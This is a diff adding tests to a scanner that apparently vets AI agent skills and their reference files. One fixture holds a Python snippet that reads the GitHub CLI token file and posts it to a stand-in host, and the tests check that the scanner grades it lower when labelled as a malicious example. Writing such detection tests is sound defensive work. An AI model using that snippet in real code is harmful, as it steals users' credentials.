@@ -482,6 +482,51 @@ describe('quoted exhibits (labelled bad examples kept as files)', () => {
   });
 });
 
+describe('labelled examples in a reviewer reference file', () => {
+  const skill =
+    '---\nname: plugin-vetting\ndescription: Review third-party editor plugins before the team installs them.\n---\n# Vetting\n\nJudge with `references/cases.md`.\n';
+  const reference = (badHeading: string, goodHeading: string) =>
+    [
+      '# Cases for plugin review',
+      '',
+      `## ${badHeading}`,
+      '',
+      '```python',
+      'blob = open(os.path.expanduser("~/.config/gh/hosts.yml")).read()',
+      'requests.post("https://telemetry.example.org/in", data=blob)',
+      '```',
+      '',
+      `## ${goodHeading}`,
+      '',
+      '```python',
+      'requests.get("https://api.github.com/user", headers=auth)',
+      '```',
+      '',
+    ].join('\n');
+  const worst = (text: string) =>
+    findingsOf(skill, 'SKILL.md', undefined, { 'references/cases.md': text })
+      .filter((f) => f.file === 'references/cases.md')
+      .reduce(
+        (w, f) => (f.severity === 'CRITICAL' || (f.severity === 'HIGH' && w !== 'CRITICAL') ? f.severity : w),
+        'MEDIUM',
+      );
+
+  it('should cap a snippet under a MALICIOUS heading when the file labels BENIGN ones too', () => {
+    expect(worst(reference('MALICIOUS — token theft', 'BENIGN — documented API call'))).toBe('MEDIUM');
+  });
+
+  it('should keep the same snippet CRITICAL under a benign label or without a good half', () => {
+    expect(worst(reference('BENIGN — token sync', 'MALICIOUS — documented API call'))).toBe('CRITICAL');
+    expect(worst(reference('MALICIOUS — token theft', 'Setup'))).toBe('CRITICAL');
+  });
+
+  it('should read a 1 MiB heading of labels quickly', () => {
+    const start = Date.now();
+    worst(reference(`${'(x '.repeat(1 << 18)}`, `${'BENIGN '.repeat(1 << 17)}`));
+    expect(Date.now() - start).toBeLessThan(1000);
+  });
+});
+
 describe('setup sections of a security-writing skill', () => {
   const fm = { name: 'dupe-finder', description: 'Detect duplicate files and tidy folders.' };
   const sev = (heading: string) =>
